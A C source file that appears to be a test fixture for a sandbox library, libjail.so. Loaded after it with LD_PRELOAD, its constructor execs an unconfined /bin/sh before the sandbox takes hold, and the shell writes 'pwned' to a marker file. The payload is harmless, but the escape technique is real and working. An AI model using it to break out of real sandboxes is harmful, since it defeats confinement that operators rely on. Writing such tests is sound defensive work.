/* early_exec.so: preloaded after libjail.so, its constructor runs before libjail's and execs a shell that is never confined. */
/*
 * Use as LD_PRELOAD="libjail.so early_exec.so" PROGRAM. The constructor
 * replaces the process with /bin/sh -c 'echo pwned > "$ATTACK_MARKER"', so
 * when the attack works the marker holds "pwned\n", the exit status is the
 * shell's (0) and PROGRAM's main never runs. LD_PRELOAD is removed from the
 * shell's environment, else the shell would load this library again and
 * exec forever. Without ATTACK_MARKER the constructor does nothing.
 */
#define _GNU_SOURCE
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void early_exec(void)
{
	static char *argv[] = { "sh", "-c", "echo pwned > \"$ATTACK_MARKER\"", NULL };
	char *envp[256];
	size_t n = 0;

	if (getenv("ATTACK_MARKER") == NULL)
		return;
	for (char **e = environ; *e != NULL && n < sizeof envp / sizeof *envp - 1; e++)
		if (strncmp(*e, "LD_PRELOAD=", 11) != 0)
			envp[n++] = *e;
	envp[n] = NULL;
	execve("/bin/sh", argv, envp);
	_exit(127);
}
